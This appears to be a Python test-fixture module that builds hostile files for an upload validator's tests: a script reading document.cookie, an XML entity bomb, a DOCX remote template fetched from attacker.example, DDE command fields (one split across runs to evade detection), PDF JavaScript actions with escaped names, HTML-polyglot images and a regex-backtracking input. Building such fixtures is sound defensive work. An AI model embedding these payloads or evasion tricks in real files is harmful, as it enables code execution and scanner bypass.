"""More hostile files, built in memory on top of tests/submissions/files.py."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook

from tests.submissions import files

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + ']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:document>'
)
REMOTE_TEMPLATE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
DDE_SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
)


def pdf_javascript() -> bytes:
    action = b"2 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    return files.pdf(b"<< /OpenAction 2 0 R >>\n" + action)


def pdf_encrypted() -> bytes:
    enc = b"3 0 obj\n<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -3904 >>\nendobj\n"
    return files.pdf(enc).replace(b"trailer\n<<>>", b"trailer\n<< /Encrypt 3 0 R >>")


def pdf_markup_after_head() -> bytes:
    return files.pdf(b"%" + b"0" * 5000 + b"\n" + HTML + b"\n")


def png_truncated() -> bytes:
    return files.png()[:-12]  # the IEND chunk is cut off


def jpeg_trailing_html() -> bytes:
    return files.jpeg() + HTML


def jpeg_html_after_head() -> bytes:
    """Markup past the first 4 KB, and the file still ends with the JPEG end marker."""
    body = files.jpeg()[:-2]
    return body + b"\x00" * 5000 + HTML + b"\xff\xd9"


def mp4_brand(brand: bytes) -> bytes:
    return files.mp4().replace(b"ftypisom", b"ftyp" + brand, 1)


def mp4_then_html() -> bytes:
    return files.mp4()[:24] + HTML


def ooxml_parts(n: int) -> bytes:
    return files.ooxml(extra={f"word/media/p{i}.bin": b"" for i in range(n)})


def docx_remote_template() -> bytes:
    return files.ooxml(extra={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})


def docx_xml_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        zf.writestr("word/document.xml", BILLION_LAUGHS)
    return buf.getvalue()


def xlsx_dde() -> bytes:
    return files.ooxml("xl/workbook.xml", extra={"xl/worksheets/sheet1.xml": DDE_SHEET})


def xlsx(rows: list[list], merge: str | None = None) -> bytes:
    """A real workbook (openpyxl), one sheet of `rows`; `merge` like "A2:A3"."""
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_backtracking_formula(pairs: int = 180) -> bytes:
    """A 392-byte DOCX: `<f>` then many `|!`, which held a backtracking regex for 22.8 s."""
    return files.ooxml(extra={"word/f.xml": "<f>" + "|!" * pairs})


def pdf_escaped_name(action_body: bytes) -> bytes:
    """/Java#53cript or /L#61unch: the reader decodes the #xx escape, a byte search does not."""
    action = b"2 0 obj\n<< /Type /Action " + action_body + b" >>\nendobj\n"
    return files.pdf(b"<< /OpenAction 2 0 R >>\n" + action)


def pdf_javascript_in_object_stream() -> bytes:
    """A real PDF (pikepdf) whose JavaScript action sits in a compressed object stream."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(action)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def pdf_real_plain() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def docx_dde_split_runs() -> bytes:
    """DDEAUTO written across three <w:instrText> runs of one complex field."""
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    body = (
        f'<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + run.format(" DD")
        + run.format("EAU")
        + run.format('TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )
    return files.ooxml(extra={"word/document.xml": body})


def docx_field(instruction_runs: list[str]) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instruction_runs)
    body = (
        f'<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )
    return files.ooxml(extra={"word/document.xml": body})


def docx_relationship(kind: str, target: str) -> bytes:
    rels = (
        f'<?xml version="1.0"?><Relationships {RELS}><Relationship Id="rId9" Type="{OFFICE_REL}{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return files.ooxml(extra={"word/_rels/document.xml.rels": rels})


def ordinary_rows(n: int = 20000) -> list[list]:
    """An ordinary large workbook's rows: numbers, Thai text and a formula every 50 rows."""
    return [[i, f"แถว {i}", i * 1.5, f"=A{i + 1}*2" if i % 50 == 0 else "x"] for i in range(n)]
